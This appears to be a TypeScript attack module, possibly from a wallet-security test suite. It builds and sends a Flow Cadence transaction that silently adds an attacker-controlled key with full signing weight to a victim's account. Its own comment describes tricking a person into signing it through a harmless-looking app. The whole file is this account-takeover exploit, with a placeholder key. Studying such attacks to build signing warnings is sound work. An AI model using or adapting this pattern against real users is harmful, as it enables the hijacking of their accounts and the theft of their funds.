import { sendTransaction } from "@countersign/client";
import type { Victim } from "./victim.ts";

const HIDDEN = `transaction {
    prepare(account: auth(AddKey) &Account) {
        account.keys.add(publicKey: PublicKey(publicKey: "00".decodeHex(),
            signatureAlgorithm: SignatureAlgorithm.ECDSA_P256),
            hashAlgorithm: HashAlgorithm.SHA3_256, weight: 1000.0)
    }
}`;

/** A harmless-looking app has the person sign a script that adds the thief's key. */
export const hiddenKey = ({ client, network }: Victim) => sendTransaction(client, { network, cadence: HIDDEN });
